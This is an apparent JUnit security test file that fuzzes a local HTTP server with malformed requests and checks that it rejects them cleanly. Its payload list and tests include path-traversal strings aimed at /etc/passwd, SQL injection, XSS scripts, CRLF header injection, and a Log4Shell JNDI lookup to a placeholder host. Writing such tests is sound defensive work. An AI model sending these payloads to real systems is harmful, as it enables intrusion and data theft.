package counterpoint.http;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import counterpoint.app.Samples;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Matcher;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Requests as nobody should send them. The server says no, in words, and goes on; it never blames itself. */
final class HostileTest {
    private static final int REQUESTS = Integer.getInteger("hostile.requests", 1_500);
    private static final long SEED = Long.getLong("seed", 20_261_123);
    private static final String SCRIPT = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>";

    private static final List<String> NASTY = List.of(
            "",
            " ",
            "\u0000",
            "%00",
            "..",
            "../../../../etc/passwd",
            "..%2f..%2fetc%2fpasswd",
            "%2e%2e/",
            "' OR 1=1 --",
            "\"; DROP TABLE maps; --",
            SCRIPT,
            "\r\nX-Injected: yes",
            "%0d%0aX-Injected:%20yes",
            "-1",
            "99999999999999999999",
            "1e309",
            "NaN",
            "null",
            "true",
            "{}",
            "[]",
            "\ud800",
            "\ud83d\ude00",
            "a".repeat(5_000),
            "{{7*7}}",
            "${jndi:ldap://x.example/a}",
            "\u202e");

    @TempDir
    Path folder;

    private Browsing browsing;

    @BeforeEach
    void start() {
        browsing = new Browsing(folder);
        browsing.workspace().importMap().run(Samples.file(), "trams.json");
    }

    @AfterEach
    void stop() {
        browsing.close();
    }

    /** The status of the answer to these bytes, or 0 if there was none. */
    private int send(byte[] request) throws IOException {
        try (Socket socket =
                new Socket(InetAddress.getLoopbackAddress(), browsing.address().getPort())) {
            socket.setSoTimeout(10_000);
            socket.getOutputStream().write(request);
            socket.getOutputStream().flush();
            return status(socket.getInputStream());
        }
    }

    private static int status(InputStream in) throws IOException {
        byte[] line = new byte[12];
        try {
            int read = in.readNBytes(line, 0, line.length);
            return read < line.length ? 0 : Integer.parseInt(new String(line, 9, 3, StandardCharsets.US_ASCII));
        } catch (SocketTimeoutException late) {
            return 0;
        }
    }

    private static byte[] request(String method, String target, String headers, byte[] body) {
        byte[] head = (method + " " + target + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + headers
                        + "Content-Length: " + body.length + "\r\n\r\n")
                .getBytes(StandardCharsets.UTF_8);
        byte[] all = new byte[head.length + body.length];
        System.arraycopy(head, 0, all, 0, head.length);
        System.arraycopy(body, 0, all, head.length, body.length);
        return all;
    }

    @Test
    void neverBlamesItself_whateverIsSent() throws Exception {
        List<Described> operations =
                Described.all(browsing.get("/api/openapi.json").body());
        Random random = new Random(SEED);
        Set<String> faults = new TreeSet<>();
        Set<Integer> statuses = new TreeSet<>();
        for (int i = 0; i < REQUESTS; i++) {
            Described operation = operations.get(random.nextInt(operations.size()));
            byte[] request = mutated(operation, random);
            int status = send(request);
            statuses.add(status);
            if (status >= 500 || status == 0) {
                String shown = new String(request, StandardCharsets.UTF_8);
                faults.add(status + " for " + shown.substring(0, Math.min(shown.length(), 300)));
            }
        }

        assertThat(faults).as("seed " + SEED).isEmpty();
        assertThat(statuses).contains(200, 400, 404, 415);
        assertThat(browsing.workspace().keepSafe().verify()).isEmpty();
    }

    private static byte[] mutated(Described operation, Random random) {
        String target = operation.address();
        StringBuilder headers = new StringBuilder();
        for (JsonNode parameter : operation.parameters()) {
            String name = parameter.path("name").asText();
            String value = random.nextInt(3) == 0
                    ? nasty(random)
                    : parameter.path("example").asText("7");
            switch (parameter.path("in").asText()) {
                case "path" ->
                    target = random.nextInt(3) == 0
                            ? operation
                                    .path()
                                    .replace("{" + name + "}", encoded(value))
                                    .replaceAll("\\{\\w+}", "p1")
                            : target;
                case "query" -> target += (target.contains("?") ? "&" : "?") + name + "=" + encoded(value);
                default ->
                    headers.append(name)
                            .append(": ")
                            .append(value.replaceAll("[\\r\\n\\x00]", ""))
                            .append("\r\n");
            }
        }
        String type = random.nextInt(10) == 0 ? "text/plain" : operation.contentType();
        if (!type.isEmpty()) {
            headers.append("Content-Type: ").append(type).append("\r\n");
        }
        String method = random.nextInt(25) == 0 ? "PATCH" : operation.method();
        return request(method, target, headers.toString(), body(operation, random));
    }

    private static byte[] body(Described operation, Random random) {
        String body = operation.body();
        int kind = random.nextInt(8);
        if (kind == 0) {
            body = "[".repeat(2_000);
        } else if (kind == 1 && !body.isEmpty()) {
            body = body.substring(0, random.nextInt(body.length()));
        } else if (kind == 2) {
            String text = "\"" + nasty(random).replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
            body = body.replaceFirst("\"[^\"]*\"(?=[,}\\]])", Matcher.quoteReplacement(text));
        } else if (kind == 3) {
            body = body.replaceFirst("\\d+", nasty(random).replaceAll("[\\\\$]", ""));
        } else if (kind == 4) {
            body = nasty(random);
        }
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        if (kind == 5 && bytes.length > 0) {
            bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(256);
        }
        return bytes;
    }

    private static String nasty(Random random) {
        return NASTY.get(random.nextInt(NASTY.size()));
    }

    private static String encoded(String value) {
        StringBuilder encoded = new StringBuilder();
        for (byte b : value.getBytes(StandardCharsets.UTF_8)) {
            boolean isPlain = b > ' ' && b < 127 && "\"<>\\^`{|}#?&".indexOf(b) < 0;
            encoded.append(isPlain ? String.valueOf((char) b) : String.format("%%%02X", b));
        }
        return encoded.toString();
    }

    @Test
    void servesNoFileOfTheMachine_whenAPathClimbs() throws Exception {
        List<String> paths = new ArrayList<>(List.of(
                "/../../etc/passwd",
                "/..%2f..%2fetc/passwd",
                "/%2e%2e/%2e%2e/etc/passwd",
                "/style/../../etc/passwd",
                "/....//etc/passwd",
                "/..;/etc/passwd",
                "/web/..%5c..%5cetc",
                "/index.html%00.js"));
        for (String path : paths) {
            assertThat(send(request("GET", path, "", new byte[0]))).as(path).isIn(400, 404);
        }
    }

    @Test
    void givesScriptBackAsData_whereverItWasPutIn() throws Exception {
        String body = new ObjectMapper().createObjectNode().put("title", SCRIPT).toString();
        browsing.post("/api/maps", body, "Content-Type", "application/json");

        for (String path : List.of("/api/maps", "/api/maps/trams/search?q=%3Cscript%3E", "/api/nothing/%3Cscript%3E")) {
            var response = browsing.get(path);
            assertThat(response.headers().firstValue("Content-Type").orElse("")).contains("json");
            assertThat(response.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
            assertThat(response.headers().firstValue("Content-Security-Policy").orElse(""))
                    .contains("default-src 'self'")
                    .doesNotContain("unsafe-inline");
        }
    }

    @Test
    void refuses_whenTheBodyIsTooLargeOrTooDeep() throws Exception {
        byte[] large = new byte[Server.LARGEST_BODY_MB * 1_000_000 + 10];
        String json = "Content-Type: application/json\r\n";

        assertThat(send(request("POST", "/api/maps/trams/operations", json, large)))
                .isEqualTo(413);
        assertThat(send(request("POST", "/api/maps/import?name=x.txt", "Content-Type: text/plain\r\n", large)))
                .isEqualTo(413);
        byte[] deep = "{\"a\":".repeat(5_000).getBytes(StandardCharsets.UTF_8);
        assertThat(send(request("POST", "/api/maps/trams/operations", json, deep)))
                .isEqualTo(400);
        assertThat(send(request("POST", "/api/maps", json, deep))).isEqualTo(400);
    }
}
